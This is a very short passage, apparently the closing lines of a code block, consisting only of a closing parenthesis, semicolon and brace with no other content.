    );
}
